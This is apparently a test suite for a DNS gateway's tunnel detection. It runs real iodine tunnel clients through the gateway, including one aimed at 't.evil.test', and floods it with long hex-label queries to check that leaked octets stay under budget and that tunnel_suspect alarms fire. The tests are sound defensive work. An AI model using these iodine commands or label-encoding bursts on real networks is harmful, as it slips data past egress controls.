"""Tunnels in names below an allowed wildcard, and through types that carry text: DNS-32, DNS-33.

The far end is a real iodined, in a namespace of its own behind a relay that counts; it is the gate's only upstream, so whatever the gate
lets out arrives there. `small_internet` has no such server: an answer to a name that it does not know would hide what went out.
"""

import contextlib
import os
import re
import select
import socket
import subprocess
import threading
import time

import pytest

from dns_client import EDNS, NOERROR, NXDOMAIN, query
from proxy_client import head_of
from small_internet.gate import gateway_yaml
from small_internet.namespaces import remove, setns, sh

POLICY = """
version: 1
clients:
  agents: { addresses: [172.20.0.0/16, "fd00:20::/64"] }
rules:
  - { name: cdn, action: allow, clients: [agents], domains: ["*.cdn.test", listed.pkg.test], ports: [80, 443] }
  - { name: pkg, action: allow, clients: [agents], domains: ["*.pkg.test"], ports: [80, 443] }
"""
RELAY, PORT = "52.40.0.1", 5300
SECRET = "sesame"


class FarEnd:
    """iodined, and a relay in the small internet that hands it the queries below t.cdn.test and answers the others."""

    def __init__(self, lab):
        self._spaces = lab.namespaces
        self.space = f"sp-{os.getpid()}-work-far"
        sh("ip", "netns", "add", self.space)
        sh("ip", "-n", self.space, "link", "set", "lo", "up")
        self.fd = os.open(f"/run/netns/{self.space}", os.O_RDONLY | os.O_CLOEXEC)
        self.server = self._spaces.spawn(
            self.fd,
            ["/usr/sbin/iodined", "-f", "-c", "-P", SECRET, "-l", "127.0.0.1", "-p", str(PORT), "10.99.0.1/24", "t.cdn.test"],
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
        )
        with self._spaces.inside(self._spaces.net_fd):
            self._front = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            self._front.bind((RELAY, PORT))
        with self._spaces.inside(self.fd):
            self._back = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            self._back.connect(("127.0.0.1", PORT))
        self.asked = []  # names, in the order in which they came
        self._peers = {}
        self._end = threading.Event()
        self._thread = threading.Thread(target=self._relay, daemon=True)
        self._thread.start()

    def _relay(self):
        while not self._end.is_set():
            for ready in select.select([self._front, self._back], [], [], 0.05)[0]:
                with contextlib.suppress(OSError):
                    if ready is self._back:
                        reply = self._back.recv(65535)
                        if reply[:2] in self._peers:
                            self._front.sendto(reply, self._peers[reply[:2]])
                        continue
                    message, peer = self._front.recvfrom(65535)
                    name, at = [], 12
                    while message[at]:
                        name.append(message[at + 1 : at + 1 + message[at]])
                        at += 1 + message[at]
                    text = b".".join(name).decode("latin-1").lower()
                    self.asked.append(text)
                    if text.endswith(".t.cdn.test"):
                        self._peers[message[:2]] = peer
                        self._back.send(message)
                    else:  # 93.184.216.34, or nothing where it begins with "gone"
                        gone = text.startswith("gone")
                        answer = b"" if gone else b"\xc0\x0c\0\x01\0\x01\0\0\0\x3c\0\x04\x5d\xb8\xd8\x22"
                        header = message[:2] + (b"\x81\x83" if gone else b"\x81\x80") + b"\0\x01" + (b"\0\0" if gone else b"\0\x01") + b"\0\0\0\0"
                        self._front.sendto(header + message[12 : at + 5] + answer, peer)

    def octets(self, since=0, below="cdn.test"):
        """What arrived, in octets of distinct names without the parent that they are below."""
        return sum(len(n) - len(below) - 1 for n in set(self.asked[since:]) if n.endswith(f".{below}"))

    def close(self):
        self._end.set()
        self._thread.join()
        self.server.kill()
        self._front.close()
        self._back.close()
        os.close(self.fd)
        remove(self.space)


@pytest.fixture(scope="module")
def far(lab):
    made = FarEnd(lab)
    yield made
    made.close()


def start(gates, answers="real", extra="", plugin="dns"):
    """Every plugin's upstream is the far end; `extra` goes into the config of one."""
    text = re.sub(r"upstreams: \[[^]]*\]", f'upstreams: ["{RELAY}:{PORT}"]', gateway_yaml(answers))
    return gates(re.sub(rf"(name: {plugin}, config: {{)", rf"\1 {extra}{', ' if extra else ''}", text), POLICY)


def iodine(fd, server, port, domain, seconds, *arguments):
    """A client as root of its namespace: what it says until it has a tunnel, gives up, or the time is over."""

    def enter():
        setns(fd)

    command = ["/usr/sbin/iodine", "-f", "-r", "-P", SECRET, *arguments, server, domain]
    if port != 53:
        # It knows no other port: the far end's own is 53 for whoever is in its namespace.
        sh("nsenter", f"--net=/proc/self/fd/{fd}", "nft", "add table ip to_far; add chain ip to_far out { type nat hook output priority -100; }; "
           f"add rule ip to_far out udp dport 53 redirect to :{port}", pass_fds=(fd,))
    process = subprocess.Popen(command, preexec_fn=enter, pass_fds=(fd,), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    said, end = b"", time.monotonic() + seconds
    os.set_blocking(process.stdout.fileno(), False)
    while time.monotonic() < end and b"Connection setup complete" not in said and process.poll() is None:
        if select.select([process.stdout], [], [], 0.1)[0]:
            said += process.stdout.read() or b""
    process.kill()
    said += process.communicate()[0] or b""
    return said.decode(errors="replace")


def test_the_far_end_works(far):
    """Without a gate between them a tunnel forms within seconds: what the other tests see missing is there to be had."""
    said = iodine(far.fd, "127.0.0.1", PORT, "t.cdn.test", 20)
    assert "Connection setup complete" in said, said


@pytest.mark.parametrize("answers", ["real", "gateway"])
@pytest.mark.parametrize("arguments", [(), ("-T", "TXT"), ("-T", "CNAME"), ("-T", "A", "-M", "200")], ids=["any", "txt", "cname", "a"])
def test_iodine_below_an_allowed_wildcard(gates, agents, far, answers, arguments):
    """DNS-33: no tunnel forms, whatever type carries it; what went out by then is less than a budget's octets, let alone 1 kB a second."""
    start(gates, answers)
    before, began = len(far.asked), time.monotonic()
    said = iodine(agents.fds["a"], "172.20.0.1", 53, "t.cdn.test", 25, *arguments)
    took = time.monotonic() - began
    assert "Connection setup complete" not in said and "Server tunnel IP" not in said, said
    sent = far.octets(before)
    assert sent < 4096 and sent / max(took, 5) < 1000, (sent, took, said)


def test_iodine_below_a_denied_name(gates, agents, far, witness):
    """DNS-33: nobody outside hears of it."""
    gate = start(gates)
    before = len(far.asked)
    with witness.expect_zero():
        said = iodine(agents.fds["a"], "172.20.0.1", 53, "t.evil.test", 15)
    assert "Connection setup complete" not in said, said
    assert far.asked[before:] == [] and gate.wait_audit(verdict="deny", plugin="dns")


def hex40(i):
    return f"{i:08x}{i * 2654435761 % (1 << 128):032x}"


def test_hex_labels(gates, ask, far):
    """DNS-32: 200 distinct labels of 40 hex characters."""
    gate = start(gates)
    before = len(far.asked)
    answers = ask(*[query(f"{hex40(i)}.cdn.test", edns=EDNS) for i in range(200)])
    passed = [a.rcode for a in answers].index(NXDOMAIN)
    assert passed == 49 and all(a.rcode == NOERROR for a in answers[:49])
    assert all(a.rcode == NXDOMAIN and a.ede == [15] for a in answers[49:])
    assert len(far.asked) - before == 49, "the name that reached the budget, and every one after it, stayed here"

    alarm = gate.wait_audit(reason="tunnel_suspect", name=f"{hex40(49)}.cdn.test")[0]
    assert alarm["verdict"] == alarm["effective"] == "deny" and alarm["client"]["addr"] == "172.20.0.7"
    assert alarm["cause"].startswith("50 names with a label over 30 octets below cdn.test within 60 s")
    assert gate.log().count("tunnel_suspect:") == 1, "one line for the operator"
    deadline = time.monotonic() + 5
    while gate.health("dns")["tunnel_suspect"] != 1:
        assert time.monotonic() < deadline
        time.sleep(0.05)

    held, other_parent, listed, other_client = ask(query("www.cdn.test")), ask(query("www.pkg.test")), ask(query("listed.pkg.test")), ask(query("www.cdn.test"), agent="b")
    assert held.rcode == NXDOMAIN and [a.rcode for a in (other_parent, listed, other_client)] == [NOERROR] * 3
    assert ask(query("www.cdn.test"), tcp=True).rcode == NXDOMAIN and ask(query("www.cdn.test"), server="fd00:20::1").rcode == NOERROR


@pytest.mark.parametrize("answers", ["real", "gateway"])
def test_as_much_as_names_can_carry(gates, ask, far, answers):
    """DNS-33, for a generator that spends nothing on a handshake: labels of 60 characters, four to a name, as fast as it can."""
    start(gates, answers)
    before, began = len(far.asked), time.monotonic()
    label = lambda i: f"{i:06x}" + f"{i * 2654435761:0>54x}"[-54:]  # noqa: E731
    codes = [a.rcode for a in ask(*[query(f"{label(i)}.{label(i + 1)}.{label(i + 2)}.cdn.test") for i in range(2000)])]
    assert codes[-1] == NXDOMAIN and NOERROR in codes
    sent = far.octets(before)
    assert sent < 4096 and sent / 60 < 100, f"{sent} octets in {time.monotonic() - began:.1f} s, and none for the next minutes"


def test_names_that_do_not_exist(gates, ask, far):
    """Answers carry bits too: 60 names that do not exist are a budget."""
    gate = start(gates)
    before = len(far.asked)
    answers = ask(*[query(f"gone{i}.cdn.test", edns=EDNS) for i in range(100)])
    assert all(a.rcode == NXDOMAIN for a in answers) and [a.ede for a in answers].index([15]) == 59
    assert len(far.asked) - before == 60
    assert gate.wait_audit(reason="tunnel_suspect", name="gone59.cdn.test")[0]["cause"].startswith("60 names that do not exist below cdn.test")


def test_budgets_of_the_config(gates, ask, far):
    start(gates, extra="budgets: { long_names: 0, octets: 0, names: 120, window: 2m, cooldown: 1s }")
    codes = [a.rcode for a in ask(*[query(f"{hex40(i)}.cdn.test") for i in range(130)])]
    assert codes.index(NXDOMAIN) == 119
    time.sleep(1.1)
    assert ask(query("www.cdn.test")).rcode == NOERROR, "the cool-down is over"


def test_the_proxy_asks_no_more_than_dns_would(gates, connect, far):
    """DNS-32, for whoever has the proxy look the names up: 403 after as many, and other names go on."""
    gate = start(gates)
    before = len(far.asked)

    def status(name):
        with connect() as s:
            s.sendall(f"CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n".encode())
            return int(head_of(s).split()[1])

    assert [status(f"{hex40(i)}.cdn.test") for i in range(60)] == [200] * 49 + [403] * 11
    assert len({n for n in far.asked[before:] if n.endswith(".cdn.test")}) == 49
    record = gate.wait_audit(plugin="http-proxy", reason="tunnel_suspect", name=f"{hex40(49)}.cdn.test")[0]
    assert record["verdict"] == record["effective"] == "deny" and record["cause"].startswith("50 names with a label over 30 octets below cdn.test")
    assert [status(name) for name in ("www.pkg.test", "www.cdn.test", "listed.pkg.test")] == [200, 403, 200]


def test_the_filter_asks_no_more_than_dns_would(gates, work, far):
    """DNS-32, for names that come as SNI to an address of the gateway."""
    gate = start(gates, "gateway")
    before = len(far.asked)
    for i in range(55):
        work.run("openssl", "s_client", "-connect", "172.20.0.3:443", "-servername", f"{hex40(i)}.cdn.test", input="")
    assert len({n for n in far.asked[before:] if n.endswith(".cdn.test")}) == 49
    record = gate.wait_audit(plugin="sni-filter", reason="tunnel_suspect", name=f"{hex40(49)}.cdn.test")[0]
    assert record["verdict"] == record["effective"] == "deny" and record["cause"].startswith("50 names with a label over 30 octets below cdn.test")
